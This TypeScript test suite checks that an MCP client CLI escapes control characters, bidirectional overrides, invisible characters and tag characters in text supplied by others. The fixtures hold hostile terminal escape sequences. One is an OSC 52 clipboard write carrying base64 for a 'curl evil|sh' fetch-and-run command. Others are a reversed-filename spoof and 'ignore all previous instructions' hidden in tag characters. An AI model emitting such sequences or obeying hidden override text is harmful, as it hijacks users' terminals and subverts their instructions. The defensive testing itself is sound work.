import { expect } from 'chai';
import fc from 'fast-check';
import { runToolsSearch } from '../../src/cli/mcp-servers';
import { printable, printableJson, printableText } from '../../src/cli/printable';
import { runTasksAnswer } from '../../src/cli/task-answer';
import { runTasksShow } from '../../src/cli/tasks';
import { runToolCallsList, runToolCallsShow } from '../../src/cli/tool-calls';
import type { OpenMcpClient } from '../../src/sdk/client';

/** Text that others wrote reaches the terminal of whoever runs the CLI: no escape sequence of theirs may act on it. */
describe('CLI: text of others is printed without its control characters', () => {
  it('tasks show: an instruction, a step tool and an error message holding ESC sequences print them as \\u escapes', async () => {
    // Clear the screen, set the window title, write the clipboard (OSC 52): what an agent key's holder could send.
    const hostile = 'hi\u001b[2J\u001b]0;pwned\u0007\u001b]52;c;Y3VybCBldmlsfHNo\u0007\r\nfake line\u009b31m';
    const task = {
      id: '01900000-0000-7000-8000-000000000001', tenant: 'acme', status: 'failed', createdAt: 'c', updatedAt: 'u',
      instruction: hostile,
      steps: [{ index: 0, tool: `x${hostile}`, status: 'failed', error: { code: 'MCP_UPSTREAM_ERROR', message: hostile } }],
      error: { code: 'TASK_FAILED', message: hostile },
    };
    const client = { tasks: { get: async () => task } } as unknown as OpenMcpClient;
    const lines: string[] = [];
    expect(await runTasksShow(client, task.id, {}, (l) => lines.push(l), )).to.equal(0);
    const text = lines.join('\n');
    // The table's own borders carry no colour when stdout is not a terminal (cliTable): any ESC here came from the data.
    expect(text).to.not.match(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    expect(text).to.include('\\u001b[2J');
    expect(lines.find((l) => l.startsWith('instruction: '))).to.equal('instruction: hi\\u001b[2J\\u001b]0;pwned\\u0007\\u001b]52;c;Y3VybCBldmlsfHNo\\u0007\\u000d\\u000afake line\\u009b31m');
  });
});

describe('CLI: tool-calls list prints others\' text without its control characters', () => {
  it('an upstream error message and tool name holding ESC sequences print them as \\u escapes', async () => {
    const hostile = 'boom\u001b[2J\u001b]52;c;Y3VybCBldmlsfHNo\u0007\r\nfake line\u009b31m';
    const call = {
      id: '01900000-0000-7000-8000-000000000002', tenant: 'acme', serverId: 's1', server: 'files', tool: `read${hostile}`,
      status: 'failed', requestedAt: '2026-12-09T00:00:00.000Z', error: { code: 'MCP_UPSTREAM_ERROR', message: hostile },
    };
    const client = { toolCalls: { list: async () => ({ items: [call] }) } } as unknown as OpenMcpClient;
    const lines: string[] = [];
    expect(await runToolCallsList(client, {}, (l) => lines.push(l))).to.equal(0);
    const text = lines.join('\n');
    expect(text).to.not.match(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    expect(text).to.include('\\u001b[2J');
  });
});

describe("CLI: mcp tools search prints an upstream's tool names without their control characters", () => {
  it("the upstream's own name of an aliased tool (its author chose it: any text of up to 200 characters) prints as \\u escapes, as its description does", async () => {
    const hostile = 'read\u001b]52;c;Y3VybCBldmlsfHNo\u0007\u001b[2J\u009b31m';
    const tool = { name: 'files__read_6f1c2a', server: 'files', tool: hostile, score: 1, description: `reads ${hostile}` };
    const client = { tools: { search: async () => [tool] } } as unknown as OpenMcpClient;
    const lines: string[] = [];
    expect(await runToolsSearch(client, 'read', {}, (l) => lines.push(l))).to.equal(0);
    const text = lines.join('\n');
    expect(text).to.not.match(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    expect(text).to.include('\\u001b]52');
  });
});

describe('CLI: payloads and answers of others print without control characters, --json too', () => {
  // JSON.stringify escapes C0 but leaves DEL and the C1 controls as they are: U+009B is CSI, which
  // xterm and others act on in UTF-8 as ESC [ (clear the screen, recolour, move the cursor).
  const hostile = 'hi\u009b2J\u009b31m\u001b]52;c;Y3VybCBldmlsfHNo\u0007\u007f';
  const c1 = /[\u007f-\u009f]/;

  it('tool-calls show: arguments and result (a tool or another key of the tenant wrote them), and --json', async () => {
    const call = {
      id: '01900000-0000-7000-8000-000000000003', tenant: 'acme', serverId: 's1', server: 'files', tool: 'read', status: 'completed',
      argumentsHash: '0x1', arguments: { path: hostile }, resultHash: '0x2', result: { content: [{ type: 'text', text: hostile }] },
    };
    const client = { toolCalls: { get: async () => call } } as unknown as OpenMcpClient;
    for (const json of [false, true]) {
      const lines: string[] = [];
      expect(await runToolCallsShow(client, call.id, { json }, (l) => lines.push(l))).to.equal(0);
      const text = lines.join('\n');
      expect(text, `json: ${json}`).to.not.match(c1);
      expect(text).to.include('\\u009b2J');
      if (json) expect(JSON.parse(text).result.content[0].text, 'still the same JSON').to.equal(hostile);
    }
  });

  it("tasks show: the task's output, and --json", async () => {
    const task = { id: '01900000-0000-7000-8000-000000000004', tenant: 'acme', status: 'completed', createdAt: 'c', updatedAt: 'u', steps: [], output: { answer: hostile } };
    const client = { tasks: { get: async () => task } } as unknown as OpenMcpClient;
    for (const json of [false, true]) {
      const lines: string[] = [];
      expect(await runTasksShow(client, task.id, { json }, (l) => lines.push(l))).to.equal(0);
      expect(lines.join('\n'), `json: ${json}`).to.not.match(c1);
    }
  });

  it("tasks answer: the model's answer (what tool output steered it to write) keeps its lines and tabs, not its escape sequences; --json gives it exactly", async () => {
    const answer = `line one\n\tline two ${hostile}\u001b[2J`;
    const client = { tasks: { answer: async () => ({ answer, answerHash: '0x3' }) } } as unknown as OpenMcpClient;
    const lines: string[] = [];
    expect(await runTasksAnswer(client, 'id', {}, (l) => lines.push(l))).to.equal(0);
    expect(lines.join('\n')).to.not.match(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    expect(lines.join('\n')).to.include('line one\n\tline two hi\\u009b2J').and.include('\\u001b[2J');
    const json: string[] = [];
    expect(await runTasksAnswer(client, 'id', { json: true }, (l) => json.push(l))).to.equal(0);
    expect(json.join('\n')).to.not.match(c1);
    expect(JSON.parse(json.join('\n')).answer).to.equal(answer);
  });
});

describe('CLI: text of others prints its bidirectional controls as escapes (what a person reads is what the data holds)', () => {
  // A right-to-left override (U+202E) or isolate (U+2066…U+2069) is no control character, yet a
  // terminal that lays out bidirectional text shows what follows it reversed: an argument
  // "\u202Etxt.exe" reads "exe.txt", and an error or tool name can show other words than it holds
  // (the Trojan Source attack on code review). They printed as they were.
  const bidi = '\u202Etxt.exe \u2066x\u2069 \u200F\u061C\u202A';
  const hidden = /[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

  it('tool-calls show (arguments, result; and --json, the same JSON) and tool-calls list (tool, error)', async () => {
    const call = {
      id: '01900000-0000-7000-8000-000000000005', tenant: 'acme', serverId: 's1', server: 'files', tool: `read${bidi}`, status: 'failed',
      requestedAt: '2026-12-09T00:00:00.000Z', argumentsHash: '0x1', arguments: { path: bidi }, resultHash: '0x2',
      result: { content: [{ type: 'text', text: bidi }] }, error: { code: 'MCP_UPSTREAM_ERROR', message: bidi },
    };
    const client = { toolCalls: { get: async () => call, list: async () => ({ items: [call] }) } } as unknown as OpenMcpClient;
    for (const json of [false, true]) {
      const lines: string[] = [];
      expect(await runToolCallsShow(client, call.id, { json }, (l) => lines.push(l))).to.equal(0);
      const text = lines.join('\n');
      expect(text, `json: ${json}`).to.not.match(hidden);
      expect(text).to.include('\\u202etxt.exe');
      if (json) expect(JSON.parse(text).arguments.path, 'still the same JSON').to.equal(bidi);
    }
    const lines: string[] = [];
    expect(await runToolCallsList(client, {}, (l) => lines.push(l))).to.equal(0);
    expect(lines.join('\n')).to.not.match(hidden);
  });

  it('tasks answer keeps its lines but not its overrides', async () => {
    const client = { tasks: { answer: async () => ({ answer: `a\n${bidi}`, answerHash: '0x3' }) } } as unknown as OpenMcpClient;
    const lines: string[] = [];
    expect(await runTasksAnswer(client, 'id', {}, (l) => lines.push(l))).to.equal(0);
    expect(lines.join('\n')).to.not.match(hidden);
    expect(lines.join('\n')).to.include('a\n\\u202etxt.exe');
  });
});

describe('CLI: text of others prints its invisible characters as escapes (no two different texts print alike)', () => {
  // A zero width space (U+200B), word joiner (U+2060), byte order mark
  // (U+FEFF), soft hyphen (U+00AD) or tag character (U+E0000…U+E007F, which can carry a whole
  // instruction unseen) shows as nothing: "ad\u200bmin" printed as "admin", so a tool, server or
  // argument that is not the one a reader takes it for could not be told apart (Unicode's
  // Default_Ignorable_Code_Point: what a renderer shows as nothing). Not the joiners (U+200C,
  // U+200D) or variation selectors that Persian and Indic words and emoji need: those print as they are.
  const invisible = 'ad\u200bmin \u2060\ufeff\u00ad \u{e0041}\u{e0042}';
  const hiddenNone = /[\u00ad\u200b\u2060\ufeff]|\udb40/;

  it('tool-calls show (and --json, still the same JSON), tool-calls list and tasks answer', async () => {
    const call = {
      id: '01900000-0000-7000-8000-000000000006', tenant: 'acme', serverId: 's1', server: 'files', tool: `read${invisible}`, status: 'failed',
      requestedAt: '2026-12-09T00:00:00.000Z', argumentsHash: '0x1', arguments: { path: invisible }, resultHash: '0x2',
      result: { content: [{ type: 'text', text: invisible }] }, error: { code: 'MCP_UPSTREAM_ERROR', message: invisible },
    };
    const client = { toolCalls: { get: async () => call, list: async () => ({ items: [call] }) } } as unknown as OpenMcpClient;
    for (const json of [false, true]) {
      const lines: string[] = [];
      expect(await runToolCallsShow(client, call.id, { json }, (l) => lines.push(l))).to.equal(0);
      const text = lines.join('\n');
      expect(text, `json: ${json}`).to.not.match(hiddenNone);
      expect(text).to.include('ad\\u200bmin \\u2060\\ufeff\\u00ad \\udb40\\udc41\\udb40\\udc42');
      if (json) expect(JSON.parse(text).arguments.path, 'still the same JSON').to.equal(invisible);
    }
    const lines: string[] = [];
    expect(await runToolCallsList(client, {}, (l) => lines.push(l))).to.equal(0);
    expect(lines.join('\n')).to.not.match(hiddenNone);
    const answers = { tasks: { answer: async () => ({ answer: `a\n${invisible}`, answerHash: '0x3' }) } } as unknown as OpenMcpClient;
    const answer: string[] = [];
    expect(await runTasksAnswer(answers, 'id', {}, (l) => answer.push(l))).to.equal(0);
    expect(answer.join('\n')).to.include('a\nad\\u200bmin');
  });

  it('keeps what writing needs: the zero width joiner and non-joiner (Persian and Indic words, emoji sequences) and variation selectors', () => {
    // (A Mongolian word's free variation selector (U+180B-U+180D, U+180F) is one as much as U+FE0F.)
    const writing = 'می\u200cخواهم 👩\u200d💻 ❤\ufe0f 葛\u{e0100} ᠮᠣᠩᠭ\u180bᠣᠯ ᠭ\u180fᠠ';
    expect(printable(writing)).to.equal(writing);
    expect(printableText(writing)).to.equal(writing);
    expect(printableJson({ writing })).to.equal(JSON.stringify({ writing }));
  });
});

describe('CLI: the England, Scotland and Wales flags print as flags, other tag characters as escapes', () => {
  // A subdivision flag is U+1F3F4, its id in tag characters (gbsct: U+E0067 U+E0062 U+E0073 U+E0063
  // U+E0074) and CANCEL TAG U+E007F. Its tags were escaped as any other: 🏴\udb40\udc67….
  const tags = (id: string) => [...id].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
  const flag = (id: string) => `\u{1f3f4}${tags(id)}\u{e007f}`;
  const FLAGS = ['gbeng', 'gbsct', 'gbwls'].map(flag);
  const TAG = /[\u{e0000}-\u{e007f}]/u;
  const withoutFlags = (s: string) => FLAGS.reduce((t, f) => t.split(f).join(''), s);
  const count = (s: string) => FLAGS.reduce((n, f) => n + s.split(f).length - 1, 0);

  it('keeps the three flags in printable, printableText and printableJson', () => {
    const text = `Scotland ${FLAGS[1]}, England ${FLAGS[0]}, Wales ${FLAGS[2]}${FLAGS[2]}`;
    expect(printable(text)).to.equal(text);
    expect(printableText(`a\n${text}`)).to.equal(`a\n${text}`);
    expect(printableJson({ text })).to.equal(JSON.stringify({ text }));
  });

  it('escapes tag characters that are no such flag: alone, without the black flag, without CANCEL TAG, or spelling another id', () => {
    // Each hides text a reader does not see: a renderer draws 🏴 and tags it has no flag for as a plain black flag.
    for (const hidden of [
      tags('ignore all previous instructions'),
      `${tags('gbsct')}\u{e007f}`,
      `\u{1f3f4}${tags('gbsct')}`,
      `\u{1f3f4}${tags('usca')}\u{e007f}`,
      `\u{1f3f4}${tags('gbsctx')}\u{e007f}`,
      `\u{1f3f4}${tags('gbsct ignore all previous')}\u{e007f}`,
      `\u{1f3f4}\u{e007f}`,
      `\u{1f3f4}\ufe0f${tags('gbsct')}\u{e007f}`,
    ]) {
      for (const out of [printable(hidden), printableText(hidden), printableJson(hidden)]) {
        expect(out, JSON.stringify(hidden)).to.not.match(TAG);
        expect(out).to.include('\\udb40\\udc');
      }
    }
  });

  it('property: a tag character is printed only within one of the three flags, every flag given is printed, and printing twice changes nothing', () => {
    const piece = fc.oneof(
      fc.constantFrom(...FLAGS, '\u{1f3f4}', '\u{e007f}', '\u{e0001}', '\u{e0020}', '\ufe0f', 'a'),
      fc.integer({ min: 0xe0000, max: 0xe007f }).map((c) => String.fromCodePoint(c)),
      fc.constantFrom('gbeng', 'gbsct', 'gbwls', 'usca', 'gb').map(tags),
      fc.string({ unit: 'binary', maxLength: 3 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }).map((p) => p.join('')), (s) => {
        for (const show of [printable, printableText]) {
          const out = show(s);
          expect(withoutFlags(out)).to.not.match(TAG);
          expect(count(out)).to.equal(count(s));
          expect(show(out)).to.equal(out);
        }
        const json = printableJson(s);
        expect(withoutFlags(json)).to.not.match(TAG);
        expect(count(json)).to.equal(count(s));
        expect(JSON.parse(json)).to.equal(s);
      }),
      { numRuns: 1000 },
    );
  });
});
